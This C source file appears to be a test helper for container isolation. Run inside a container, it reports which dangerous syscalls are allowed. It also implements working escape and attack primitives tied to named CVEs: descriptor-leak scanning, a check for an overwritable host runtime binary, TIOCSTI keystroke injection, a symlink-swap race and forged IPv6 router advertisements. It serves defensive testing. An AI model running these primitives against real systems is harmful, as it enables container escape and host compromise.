// What a container would do that means harm. Built statically by the tests and run inside; each word tries one thing and
// prints what came of it.

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip6.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static const char* outcome(long result) {
  return result >= 0 ? "ALLOWED" : strerrorname_np(errno);
}

static void try_call(const char* name, long result) {
  printf("%s %s\n", name, outcome(result));
}

#ifdef __x86_64__
static int call_32bit(int number, int first, uint32_t* second) {
  int result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"((uint32_t)(uintptr_t)second) : "memory", "r8", "r9", "r10", "r11");
  return result;
}

// socketcall(2) of the 32-bit table: a filter that looks at socket(2) alone does not see it.
static long socket_32bit(int family) {
  const int gettid_number = 224;  // user-mode-linux takes all numbers for those of its one table
  if (call_32bit(gettid_number, 0, NULL) != syscall(SYS_gettid)) return errno = ENOSYS, -1;
  uint32_t* arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
  arguments[0] = (uint32_t)family, arguments[1] = SOCK_SEQPACKET, arguments[2] = 0;
  const int result = call_32bit(102, 1, arguments);
  if (result < 0) errno = -result;
  return result < 0 ? -1 : result;
}
#endif

static int calls(void) {
  char buffer[64] = {0};
  try_call("unshare-user", unshare(CLONE_NEWUSER));
  try_call("unshare-mount", unshare(CLONE_NEWNS));
  try_call("unshare-net", unshare(CLONE_NEWNET));
  try_call("mount", mount("none", "/tmp", "tmpfs", 0, ""));
  try_call("umount", umount2("/proc", MNT_DETACH));
  try_call("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
  try_call("open_tree", syscall(SYS_open_tree, AT_FDCWD, "/", 0));
  try_call("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp"));
  try_call("setns", setns(open("/proc/1/ns/mnt", O_RDONLY), 0));
  try_call("keyctl", syscall(SYS_keyctl, 0, -3, 0, 0, 0));
  try_call("add_key", syscall(SYS_add_key, "user", "x", "y", 1, -3));
  try_call("bpf", syscall(SYS_bpf, 0, buffer, sizeof buffer));
  try_call("perf_event_open", syscall(SYS_perf_event_open, buffer, 0, -1, -1, 0));
  try_call("userfaultfd", syscall(SYS_userfaultfd, 0));
  try_call("io_uring_setup", syscall(SYS_io_uring_setup, 8, buffer));
  try_call("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  try_call("init_module", syscall(SYS_init_module, buffer, 0, ""));
  try_call("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, buffer, 0));
  try_call("reboot", syscall(SYS_reboot, 0, 0, 0, 0));
  try_call("swapon", syscall(SYS_swapon, "/none", 0));
  try_call("acct", syscall(SYS_acct, "/none"));
  try_call("settimeofday", syscall(SYS_settimeofday, NULL, NULL) < 0 ? -1 : syscall(SYS_clock_settime, CLOCK_REALTIME, buffer));
  try_call("quotactl", syscall(SYS_quotactl, 0, "/none", 0, NULL));
  try_call("lookup_dcookie", syscall(SYS_lookup_dcookie, 0, buffer, 1));
  try_call("mbind", syscall(SYS_mbind, 0, 0, 0, 0, 0, 0));
  try_call("iopl", syscall(SYS_iopl, 3));
  try_call("socket-alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
  try_call("socket-vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
#ifdef __x86_64__
  try_call("socket-alg-32bit", socket_32bit(AF_ALG));
#endif
  return 0;
}

// Every descriptor of other processes that leads to a file, for SECONDS: what a process that enters this container has
// open (CVE-2016-9962, CVE-2024-21626).
static int watch_descriptors(double seconds) {
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  do {
    DIR* proc = opendir("/proc");
    for (struct dirent* process; proc != NULL && (process = readdir(proc)) != NULL;) {
      if (process->d_name[0] < '1' || process->d_name[0] > '9' || atoi(process->d_name) == getpid()) continue;
      char path[600], target[4096];
      snprintf(path, sizeof path, "/proc/%s/exe", process->d_name);
      int program = open(path, O_RDONLY);
      if (program >= 0) {
        char again[64];
        snprintf(again, sizeof again, "/proc/self/fd/%d", program);
        ssize_t size = readlink(again, target, sizeof target - 1);
        // Asked, not opened: it is busy as long as it runs, and free a moment later.
        int seals = fcntl(program, F_GET_SEALS);
        int sealed = seals >= 0 && (seals & F_SEAL_WRITE) != 0;
        if (size > 0 && !sealed && access(again, W_OK) == 0 && strncmp(target, "/bin/", 5) != 0) printf("EXE %.*s\n", (int)size, target);
        close(program);
      }
      snprintf(path, sizeof path, "/proc/%s/fd", process->d_name);
      DIR* descriptors = opendir(path);
      for (struct dirent* fd; descriptors != NULL && (fd = readdir(descriptors)) != NULL;) {
        char link[900];
        snprintf(link, sizeof link, "%s/%s", path, fd->d_name);
        ssize_t size = readlink(link, target, sizeof target - 1);
        if (size > 0 && target[0] == '/' && strncmp(target, "/dev/null", 9) != 0)
          printf("FD %s %s %.*s\n", process->d_name, fd->d_name, (int)size, target);
      }
      if (descriptors != NULL) closedir(descriptors);
    }
    if (proc != NULL) closedir(proc);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
  puts("watched");
  return 0;
}

// Whether the program that a descriptor leads to can be written to, now or once nobody runs it (CVE-2019-5736). Says it
// here and, where there is one, in a file that outlives the container.
static int overwrite(const char* path) {
  char line[4200], name[4096];
  ssize_t size = readlink(path, name, sizeof name);
  int program = open(path, O_WRONLY);
  const char* found = program >= 0 || access(path, W_OK) == 0 ? "WRITABLE" : strerrorname_np(errno);
  int seals = fcntl(open(path, O_RDONLY), F_GET_SEALS);
  if (seals >= 0 && (seals & F_SEAL_WRITE) != 0) found = "SEALED";
  int length = snprintf(line, sizeof line, "program %.*s %s\n", (int)(size > 0 ? size : 0), name, found);
  int seen = open("/seen/programs", O_WRONLY | O_APPEND | O_CREAT, 0666);
  if (seen >= 0 && write(seen, line, (size_t)length) != length) return 1;
  return write(1, line, (size_t)length) == length ? 0 : 1;
}

// Pushes keys into the terminal that it has (CVE-2017-5226).
static int push_keys(const char* keys) {
  for (; *keys != '\0'; ++keys) {
    if (ioctl(0, TIOCSTI, keys) != 0) return printf("TIOCSTI %s\n", strerrorname_np(errno)), 0;
  }
  return puts("TIOCSTI ALLOWED"), 0;
}

// Swaps a directory and a symbolic link until there is a file DIRECTORY.stop: `link` leads to `target`.
static int swap(const char* directory, const char* target) {
  char link[4096], stop[4096];
  snprintf(link, sizeof link, "%s.link", directory);
  snprintf(stop, sizeof stop, "%s.stop", directory);
  if (symlink(target, link) != 0 && errno != EEXIST) return perror("symlink"), 1;
  mkdir(directory, 0755);
  puts("swapping");
  fflush(stdout);
  for (unsigned round = 0; round % 256 != 0 || access(stop, F_OK) != 0; ++round)
    syscall(SYS_renameat2, AT_FDCWD, directory, AT_FDCWD, link, 2 /* RENAME_EXCHANGE */);
  return 0;
}

// A router advertisement for every neighbour, as a frame of its own, so that it needs no IPv6 here (CVE-2020-13401).
static int advertise(const char* interface) {
  struct {
    struct ether_header ethernet;
    struct ip6_hdr ip;
    struct nd_router_advert advert;
    struct nd_opt_prefix_info prefix;
  } __attribute__((packed)) frame = {0};
  const uint8_t group[] = {0x33, 0x33, 0, 0, 0, 1}, ours[] = {2, 0, 0, 0, 0, 0x66};
  memcpy(frame.ethernet.ether_dhost, group, 6);
  memcpy(frame.ethernet.ether_shost, ours, 6);
  frame.ethernet.ether_type = htons(ETHERTYPE_IPV6);
  frame.ip.ip6_flow = htonl(6u << 28);
  frame.ip.ip6_plen = htons(sizeof frame.advert + sizeof frame.prefix);
  frame.ip.ip6_nxt = IPPROTO_ICMPV6;
  frame.ip.ip6_hlim = 255;
  inet_pton(AF_INET6, "fe80::66", &frame.ip.ip6_src);
  inet_pton(AF_INET6, "ff02::1", &frame.ip.ip6_dst);
  frame.advert.nd_ra_type = ND_ROUTER_ADVERT;
  frame.advert.nd_ra_curhoplimit = 64;
  frame.advert.nd_ra_router_lifetime = htons(1800);
  frame.prefix.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
  frame.prefix.nd_opt_pi_len = 4;
  frame.prefix.nd_opt_pi_prefix_len = 64;
  frame.prefix.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
  frame.prefix.nd_opt_pi_valid_time = frame.prefix.nd_opt_pi_preferred_time = htonl(3600);
  inet_pton(AF_INET6, "2001:db8:66::", &frame.prefix.nd_opt_pi_prefix);
  uint32_t sum = htons(sizeof frame.advert + sizeof frame.prefix) + htons(IPPROTO_ICMPV6);
  const char* summed = (const char*)&frame.ip.ip6_src;
  for (size_t i = 0; i < 2 * sizeof(struct in6_addr) + sizeof frame.advert + sizeof frame.prefix; i += 2) {
    uint16_t word;
    memcpy(&word, summed + i, 2);
    sum += word;
  }
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  frame.advert.nd_ra_hdr.icmp6_cksum = (uint16_t)~sum;
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface), .sll_halen = 6};
  memcpy(to.sll_addr, group, 6);
  int raw = socket(AF_PACKET, SOCK_RAW, htons(ETHERTYPE_IPV6));
  for (int i = 0; i < 5; ++i) {
    if (sendto(raw, &frame, sizeof frame, 0, (struct sockaddr*)&to, sizeof to) < 0) return perror("sendto"), 1;
  }
  return puts("advertised"), 0;
}

int main(int argc, char** argv) {
  if (argc == 2 && strcmp(argv[1], "calls") == 0) return calls();
  if (argc == 3 && strcmp(argv[1], "watch") == 0) return watch_descriptors(atof(argv[2]));
  if (argc == 3 && strcmp(argv[1], "program") == 0) return overwrite(argv[2]);
  if (argc == 3 && strcmp(argv[1], "keys") == 0) return push_keys(argv[2]);
  if (argc == 3 && strcmp(argv[1], "advertise") == 0) return advertise(argv[2]);
  if (argc == 4 && strcmp(argv[1], "swap") == 0) return swap(argv[2], argv[3]);
  fprintf(stderr, "usage: attack calls | watch SECONDS | program FD | keys TEXT | advertise INTERFACE | swap DIRECTORY TARGET\n");
  return 2;
}
